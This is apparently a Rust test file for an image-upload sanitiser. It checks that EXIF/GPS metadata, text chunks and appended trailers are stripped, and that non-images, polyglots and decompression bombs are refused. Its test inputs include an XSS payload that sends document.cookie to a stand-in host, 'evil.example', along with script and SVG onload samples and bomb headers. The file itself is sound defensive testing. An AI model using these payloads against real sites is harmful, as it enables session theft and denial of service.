//! Images through the public API: each test builds its input with the image crate, then
//! splices in by hand the metadata, trailers and lies that uploads carry.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation
)]

use std::io::Cursor;

use image::codecs::jpeg::JpegEncoder;
use image::codecs::webp::WebPEncoder;
use image::{DynamicImage, ImageEncoder, ImageFormat, Rgb, RgbImage, Rgba, RgbaImage};
use souk_media::{CleanImage, Limits, MediaError, MediaKind, check_document, clean_image, sniff, thumbnail};

/// Text that stands for the private data in metadata: it must never reach the output.
const SECRET: &[u8] = b"SOUK-SECRET-12-RUE-DES-LILAS";

// --- building inputs ---

/// A deterministic colourful picture, so that encoders have real work to do.
fn picture(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, y| Rgb([(x * 7) as u8, (y * 13) as u8, ((x + y) * 3) as u8]))
}

fn jpeg_of(image: &RgbImage) -> Vec<u8> {
    let mut out = Vec::new();
    JpegEncoder::new_with_quality(&mut out, 90).encode_image(image).unwrap();
    out
}

fn png_of(image: &DynamicImage) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    image.write_to(&mut out, ImageFormat::Png).unwrap();
    out.into_inner()
}

fn webp_of(image: &RgbaImage, exif: Option<Vec<u8>>) -> Vec<u8> {
    let mut out = Vec::new();
    let mut encoder = WebPEncoder::new_lossless(&mut out);
    if let Some(exif) = exif {
        encoder.set_exif_metadata(exif).unwrap();
    }
    encoder
        .write_image(image.as_raw(), image.width(), image.height(), image::ExtendedColorType::Rgba8)
        .unwrap();
    out
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|window| window == needle)
}

/// A TIFF value, as EXIF stores it.
enum Value {
    Short(u16),
    Ascii(&'static [u8]),
    Rationals(&'static [(u32, u32)]),
    Ifd(Vec<(u16, Value)>),
}

/// A big-endian TIFF structure (what EXIF is) with `ifd0` as its first directory.
fn tiff(ifd0: &[(u16, Value)]) -> Vec<u8> {
    let mut out = b"MM\x00\x2A\x00\x00\x00\x08".to_vec();
    out.extend(ifd(ifd0, 8));
    out
}

/// One image file directory that will sit at offset `base`, followed by the values that do
/// not fit in its entries.
fn ifd(entries: &[(u16, Value)], base: usize) -> Vec<u8> {
    let extra_base = base + 2 + entries.len() * 12 + 4;
    let mut table = (entries.len() as u16).to_be_bytes().to_vec();
    let mut extra = Vec::new();
    for (tag, value) in entries {
        table.extend(tag.to_be_bytes());
        let offset = ((extra_base + extra.len()) as u32).to_be_bytes();
        match value {
            Value::Short(short) => {
                table.extend(3u16.to_be_bytes());
                table.extend(1u32.to_be_bytes());
                table.extend(short.to_be_bytes());
                table.extend([0, 0]);
            }
            Value::Ascii(text) => {
                table.extend(2u16.to_be_bytes());
                table.extend((text.len() as u32 + 1).to_be_bytes());
                table.extend(offset);
                extra.extend(*text);
                extra.push(0);
            }
            Value::Rationals(rationals) => {
                table.extend(5u16.to_be_bytes());
                table.extend((rationals.len() as u32).to_be_bytes());
                table.extend(offset);
                for (numerator, denominator) in *rationals {
                    extra.extend(numerator.to_be_bytes());
                    extra.extend(denominator.to_be_bytes());
                }
            }
            Value::Ifd(sub) => {
                table.extend(4u16.to_be_bytes());
                table.extend(1u32.to_be_bytes());
                table.extend(offset);
                let sub = ifd(sub, extra_base + extra.len());
                extra.extend(sub);
            }
        }
        if extra.len() % 2 == 1 {
            extra.push(0);
        }
    }
    table.extend(0u32.to_be_bytes());
    table.extend(extra);
    table
}

/// EXIF as a phone writes it: a description, an orientation and where the photo was taken.
fn exif_with_gps(orientation: u16) -> Vec<u8> {
    tiff(&[
        (0x010E, Value::Ascii(SECRET)),
        (0x0112, Value::Short(orientation)),
        (
            0x8825,
            Value::Ifd(vec![
                (0x0001, Value::Ascii(b"N")),
                (0x0002, Value::Rationals(&[(48, 1), (51, 1), (2417, 100)])),
                (0x0003, Value::Ascii(b"E")),
                (0x0004, Value::Rationals(&[(2, 1), (21, 1), (719, 100)])),
            ]),
        ),
    ])
}

/// `jpeg` with an APP1 "Exif" segment holding `tiff` inserted right after SOI.
fn with_app1_exif(jpeg: &[u8], tiff: &[u8]) -> Vec<u8> {
    let mut segment = vec![0xFF, 0xE1];
    segment.extend(((2 + 6 + tiff.len()) as u16).to_be_bytes());
    segment.extend(b"Exif\x00\x00");
    segment.extend(tiff);
    let mut out = jpeg[..2].to_vec();
    out.extend(segment);
    out.extend(&jpeg[2..]);
    out
}

/// The markers of a JPEG's segments up to its first scan.
fn jpeg_markers(jpeg: &[u8]) -> Vec<u8> {
    let mut markers = Vec::new();
    let mut pos = 2;
    loop {
        assert_eq!(jpeg[pos], 0xFF);
        let marker = jpeg[pos + 1];
        markers.push(marker);
        if marker == 0xDA {
            return markers;
        }
        pos += 2 + usize::from(u16::from_be_bytes([jpeg[pos + 2], jpeg[pos + 3]]));
    }
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

fn png_chunk(kind: [u8; 4], data: &[u8]) -> Vec<u8> {
    let mut out = (data.len() as u32).to_be_bytes().to_vec();
    out.extend(kind);
    out.extend(data);
    out.extend(crc32(&out[4..]).to_be_bytes());
    out
}

/// The kinds of a PNG's chunks, in order.
fn png_chunk_kinds(png: &[u8]) -> Vec<[u8; 4]> {
    let mut kinds = Vec::new();
    let mut pos = 8;
    while pos < png.len() {
        let len = u32::from_be_bytes(png[pos..pos + 4].try_into().unwrap()) as usize;
        kinds.push(png[pos + 4..pos + 8].try_into().unwrap());
        pos += 12 + len;
    }
    kinds
}

/// `png` with `chunks` inserted after IHDR (which is 8 + 25 bytes in).
fn with_png_chunks(png: &[u8], chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut out = png[..33].to_vec();
    for chunk in chunks {
        out.extend(chunk);
    }
    out.extend(&png[33..]);
    out
}

fn png_header(width: u32, height: u32) -> Vec<u8> {
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend(height.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    out.extend(png_chunk(*b"IHDR", &ihdr));
    out
}

fn decode(clean: &CleanImage) -> DynamicImage {
    image::load_from_memory(clean.bytes()).unwrap()
}

// --- what comes back ---

#[test]
fn each_kind_comes_back_as_the_same_kind_with_the_same_pixels_count() {
    let rgb = picture(64, 48);
    let rgba = DynamicImage::ImageRgb8(rgb.clone()).into_rgba8();
    for (input, kind) in [
        (jpeg_of(&rgb), MediaKind::Jpeg),
        (png_of(&DynamicImage::ImageRgb8(rgb.clone())), MediaKind::Png),
        (webp_of(&rgba, None), MediaKind::Webp),
    ] {
        let clean = clean_image(&input, &Limits::LISTING_IMAGE).unwrap();
        assert_eq!(clean.kind(), kind);
        assert_eq!((clean.width(), clean.height()), (64, 48));
        assert_eq!(sniff(clean.bytes()), Some(kind));
        let decoded = decode(&clean);
        assert_eq!((decoded.width(), decoded.height()), (64, 48));
    }
}

#[test]
fn lossless_formats_keep_their_pixels_and_alpha() {
    let rgba = RgbaImage::from_fn(16, 8, |x, y| Rgba([x as u8 * 16, y as u8 * 32, 99, (x * y) as u8]));
    let png = clean_image(&png_of(&DynamicImage::ImageRgba8(rgba.clone())), &Limits::default()).unwrap();
    assert_eq!(decode(&png).into_rgba8(), rgba);
    let webp = clean_image(&webp_of(&rgba, None), &Limits::default()).unwrap();
    assert_eq!(decode(&webp).into_rgba8(), rgba);
}

#[test]
fn files_that_are_not_images_are_refused() {
    for bytes in [
        b"just some text".as_slice(),
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect/></svg>",
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
        b"%PDF-1.7\n1 0 obj << >> endobj\n%%EOF\n",
        b"II*\x00\x08\x00\x00\x00",
    ] {
        assert_eq!(clean_image(bytes, &Limits::LISTING_IMAGE), Err(MediaError::UnsupportedType));
    }
    assert_eq!(clean_image(b"", &Limits::LISTING_IMAGE), Err(MediaError::Empty));
}

#[test]
fn an_html_page_behind_an_image_header_is_refused() {
    // The first bytes say PNG, the rest is a web page: sniffing lets it through to the
    // decoder, which finds no image.
    let mut polyglot = b"\x89PNG\r\n\x1a\n".to_vec();
    polyglot.extend(b"<html><script>alert(1)</script></html>");
    assert_eq!(clean_image(&polyglot, &Limits::LISTING_IMAGE), Err(MediaError::Corrupt));
}

#[test]
fn files_over_the_byte_limit_are_refused_before_anything_else() {
    let png = png_of(&DynamicImage::ImageRgb8(picture(32, 32)));
    let limits = Limits { max_bytes: png.len() - 1, ..Limits::LISTING_IMAGE };
    assert_eq!(
        clean_image(&png, &limits),
        Err(MediaError::TooLarge { bytes: png.len(), max: png.len() - 1 })
    );
}

#[test]
fn bytes_appended_to_an_image_do_not_survive() {
    let payload = b"<script>fetch('https://evil.example/'+document.cookie)</script>PK\x03\x04zip";
    let rgb = picture(40, 30);
    let rgba = DynamicImage::ImageRgb8(rgb.clone()).into_rgba8();
    for input in [jpeg_of(&rgb), png_of(&DynamicImage::ImageRgb8(rgb.clone())), webp_of(&rgba, None)] {
        let mut polyglot = input.clone();
        polyglot.extend(payload);
        let clean = clean_image(&polyglot, &Limits::LISTING_IMAGE).unwrap();
        assert!(!contains(clean.bytes(), b"<script"), "{:?}", clean.kind());
        assert!(!contains(clean.bytes(), b"PK\x03\x04"), "{:?}", clean.kind());
    }
}

// --- metadata ---

#[test]
fn jpeg_exif_with_gps_is_removed() {
    let exif = exif_with_gps(1);
    let input = with_app1_exif(&jpeg_of(&picture(48, 32)), &exif);
    assert!(jpeg_markers(&input).contains(&0xE1), "the test input must carry EXIF");
    assert!(contains(&input, SECRET));

    let clean = clean_image(&input, &Limits::LISTING_IMAGE).unwrap();
    let markers = jpeg_markers(clean.bytes());
    // APP0 (JFIF) is all the encoder writes; no APP1 to APP15, no comment.
    assert!(markers.iter().all(|marker| !matches!(marker, 0xE1..=0xEF | 0xFE)), "{markers:02X?}");
    assert!(!contains(clean.bytes(), b"Exif"));
    assert!(!contains(clean.bytes(), SECRET));
    assert!(!contains(clean.bytes(), &exif[8..40]), "no part of the original EXIF");
    assert_eq!((clean.width(), clean.height()), (48, 32));
}

#[test]
fn png_text_and_exif_chunks_are_removed() {
    let mut itxt = b"Description\x00\x00\x00en\x00Beschreibung\x00".to_vec();
    itxt.extend(SECRET);
    let mut text = b"Comment\x00".to_vec();
    text.extend(SECRET);
    let input = with_png_chunks(
        &png_of(&DynamicImage::ImageRgb8(picture(30, 20))),
        &[png_chunk(*b"tEXt", &text), png_chunk(*b"iTXt", &itxt), png_chunk(*b"eXIf", &exif_with_gps(1))],
    );
    let kinds = png_chunk_kinds(&input);
    assert!(kinds.contains(b"tEXt") && kinds.contains(b"iTXt") && kinds.contains(b"eXIf"));

    let clean = clean_image(&input, &Limits::LISTING_IMAGE).unwrap();
    let kinds = png_chunk_kinds(clean.bytes());
    assert!(
        kinds.iter().all(|kind| [b"IHDR", b"IDAT", b"IEND"].contains(&kind)),
        "{:?}",
        kinds.iter().map(|kind| String::from_utf8_lossy(kind).into_owned()).collect::<Vec<_>>()
    );
    assert!(!contains(clean.bytes(), SECRET));
}

#[test]
fn webp_exif_is_removed() {
    let input = webp_of(&RgbaImage::from_pixel(12, 10, Rgba([1, 2, 3, 255])), Some(exif_with_gps(1)));
    assert!(contains(&input, b"EXIF") && contains(&input, SECRET));
    let clean = clean_image(&input, &Limits::LISTING_IMAGE).unwrap();
    assert_eq!(clean.kind(), MediaKind::Webp);
    assert!(!contains(clean.bytes(), b"EXIF"));
    assert!(!contains(clean.bytes(), SECRET));
}

// --- orientation ---

/// 20x10, left half red, right half blue.
fn two_halves() -> RgbImage {
    RgbImage::from_fn(20, 10, |x, _| if x < 10 { Rgb([255, 0, 0]) } else { Rgb([0, 0, 255]) })
}

fn is_red(pixel: Rgba<u8>) -> bool {
    pixel[0] > 200 && pixel[2] < 60
}

fn is_blue(pixel: Rgba<u8>) -> bool {
    pixel[2] > 200 && pixel[0] < 60
}

/// Orientation 6 means "rotate 90 degrees clockwise to display": the left half ends up on top.
fn assert_turned_upright(clean: &CleanImage) {
    assert_eq!((clean.width(), clean.height()), (10, 20));
    let decoded = decode(clean).into_rgba8();
    assert!(is_red(*decoded.get_pixel(5, 3)), "{:?}", decoded.get_pixel(5, 3));
    assert!(is_blue(*decoded.get_pixel(5, 16)), "{:?}", decoded.get_pixel(5, 16));
}

#[test]
fn jpeg_exif_orientation_is_applied_before_the_exif_goes() {
    let input = with_app1_exif(&jpeg_of(&two_halves()), &exif_with_gps(6));
    let clean = clean_image(&input, &Limits::LISTING_IMAGE).unwrap();
    assert_turned_upright(&clean);
    assert!(!jpeg_markers(clean.bytes()).contains(&0xE1));
}

#[test]
fn png_and_webp_exif_orientation_is_applied() {
    let exif = tiff(&[(0x0112, Value::Short(6))]);
    let png = with_png_chunks(&png_of(&DynamicImage::ImageRgb8(two_halves())), &[png_chunk(*b"eXIf", &exif)]);
    assert_turned_upright(&clean_image(&png, &Limits::LISTING_IMAGE).unwrap());
    let rgba = DynamicImage::ImageRgb8(two_halves()).into_rgba8();
    assert_turned_upright(&clean_image(&webp_of(&rgba, Some(exif)), &Limits::LISTING_IMAGE).unwrap());
}

// --- sizes ---

#[test]
fn a_decompression_bomb_is_refused_from_its_header_alone() {
    // A PNG that claims 100000x100000 (40 GB of pixels) and has no image data at all: had
    // anything decoded it, the answer would be Corrupt.
    let mut bomb = png_header(100_000, 100_000);
    bomb.extend(png_chunk(*b"IEND", b""));
    assert_eq!(
        clean_image(&bomb, &Limits::LISTING_IMAGE),
        Err(MediaError::DimensionsTooLarge { width: 100_000, height: 100_000 })
    );
    // Each side within the limits, but 49 megapixels in all.
    let mut wide = png_header(7000, 7000);
    wide.extend(png_chunk(*b"IEND", b""));
    assert_eq!(
        clean_image(&wide, &Limits::LISTING_IMAGE),
        Err(MediaError::DimensionsTooLarge { width: 7000, height: 7000 })
    );
}

#[test]
fn jpeg_and_webp_bombs_are_refused_from_their_headers() {
    let mut jpeg =
        vec![0xFF, 0xD8, 0xFF, 0xC0, 0x00, 0x0B, 0x08, 0xFD, 0xE8, 0xFD, 0xE8, 0x01, 0x01, 0x11, 0x00];
    jpeg.extend([0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00, 0xFF, 0xD9]);
    assert_eq!(
        clean_image(&jpeg, &Limits::LISTING_IMAGE),
        Err(MediaError::DimensionsTooLarge { width: 65_000, height: 65_000 })
    );
    // An extended WebP whose canvas is 16384x16384.
    let webp = b"RIFF\x16\x00\x00\x00WEBPVP8X\x0A\x00\x00\x00\x00\x00\x00\x00\xFF\x3F\x00\xFF\x3F\x00";
    assert_eq!(
        clean_image(webp, &Limits::LISTING_IMAGE),
        Err(MediaError::DimensionsTooLarge { width: 16_384, height: 16_384 })
    );
}

#[test]
fn a_real_image_over_the_limits_is_refused() {
    let png = png_of(&DynamicImage::ImageRgb8(picture(40, 30)));
    let limits = Limits { max_width: 39, ..Limits::LISTING_IMAGE };
    assert_eq!(clean_image(&png, &limits), Err(MediaError::DimensionsTooLarge { width: 40, height: 30 }));
    let limits = Limits { max_pixels: 1199, ..Limits::LISTING_IMAGE };
    assert_eq!(clean_image(&png, &limits), Err(MediaError::DimensionsTooLarge { width: 40, height: 30 }));
}

#[test]
fn truncated_files_are_corrupt() {
    let rgb = picture(64, 48);
    let rgba = DynamicImage::ImageRgb8(rgb.clone()).into_rgba8();
    for input in [jpeg_of(&rgb), png_of(&DynamicImage::ImageRgb8(rgb.clone())), webp_of(&rgba, None)] {
        let kind = sniff(&input);
        // Cut inside the pixel data. (A PNG missing only its closing IEND chunk still has all
        // its pixels, and is accepted: what is stored is a fresh file anyway.)
        for len in [16, 40, input.len() / 2, input.len() * 9 / 10] {
            assert_eq!(
                clean_image(&input[..len], &Limits::LISTING_IMAGE),
                Err(MediaError::Corrupt),
                "{kind:?} cut to {len} of {} bytes",
                input.len()
            );
        }
    }
}

#[test]
fn large_images_are_scaled_down_to_the_output_side() {
    let limits = Limits { max_output_side: 100, ..Limits::LISTING_IMAGE };
    let clean = clean_image(&png_of(&DynamicImage::ImageRgb8(picture(300, 120))), &limits).unwrap();
    assert_eq!((clean.width(), clean.height()), (100, 40));
    assert_eq!((decode(&clean).width(), decode(&clean).height()), (100, 40));
    let tall = clean_image(&jpeg_of(&picture(50, 400)), &limits).unwrap();
    assert_eq!((tall.width(), tall.height()), (13, 100));
    // Never up.
    let small = clean_image(&jpeg_of(&picture(30, 20)), &limits).unwrap();
    assert_eq!((small.width(), small.height()), (30, 20));
}

#[test]
fn thumbnails_fit_the_side_and_keep_the_kind() {
    let rgba = DynamicImage::ImageRgb8(picture(200, 100)).into_rgba8();
    for input in [jpeg_of(&picture(200, 100)), webp_of(&rgba, None)] {
        let clean = clean_image(&input, &Limits::LISTING_IMAGE).unwrap();
        let thumb = thumbnail(&clean, 48).unwrap();
        assert_eq!(thumb.kind(), clean.kind());
        assert_eq!((thumb.width(), thumb.height()), (48, 24));
        assert_eq!((decode(&thumb).width(), decode(&thumb).height()), (48, 24));
        // An image that already fits comes back untouched rather than re-encoded.
        assert_eq!(thumbnail(&clean, 480).unwrap(), clean);
    }
}

// --- judged by content ---

#[test]
fn the_file_name_plays_no_part() {
    // "passport.jpg" that is really a PDF: the API never sees the name, and the content
    // decides what happens.
    let (_name, bytes) =
        ("passport.jpg", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n".as_slice());
    assert_eq!(sniff(bytes), Some(MediaKind::Pdf));
    assert_eq!(clean_image(bytes, &Limits::LISTING_IMAGE), Err(MediaError::UnsupportedType));
    let document = check_document(bytes, &Limits::DOCUMENT).unwrap();
    assert_eq!(document.kind(), MediaKind::Pdf);
    assert_eq!(document.bytes(), bytes);

    // "scan.pdf" that is really a PNG is cleaned as an image.
    let (_name, png) = ("scan.pdf", png_of(&DynamicImage::ImageRgb8(picture(20, 10))));
    let document = check_document(&png, &Limits::DOCUMENT).unwrap();
    assert_eq!(document.kind(), MediaKind::Png);
    assert_eq!(document.dimensions(), Some((20, 10)));
}

#[test]
fn an_identity_photo_loses_its_gps_position() {
    let input = with_app1_exif(&jpeg_of(&picture(60, 40)), &exif_with_gps(1));
    let document = check_document(&input, &Limits::DOCUMENT).unwrap();
    assert_eq!(document.kind(), MediaKind::Jpeg);
    assert_eq!(document.dimensions(), Some((60, 40)));
    assert!(!jpeg_markers(document.bytes()).contains(&0xE1));
    assert!(!contains(document.bytes(), SECRET));
}

#[test]
fn refusals_read_as_sentences() {
    assert_eq!(
        MediaError::TooLarge { bytes: 12_000_000, max: 10_485_760 }.to_string(),
        "the file is 12000000 bytes; the largest accepted is 10485760 bytes"
    );
    assert_eq!(
        MediaError::DimensionsTooLarge { width: 100_000, height: 100_000 }.to_string(),
        "the image is 100000x100000 pixels, which is larger than accepted"
    );
    assert!(MediaError::ActiveContent("JavaScript").to_string().contains("(JavaScript)"));
    assert!(MediaError::UnsupportedType.to_string().contains("JPEG, PNG or WebP"));
}
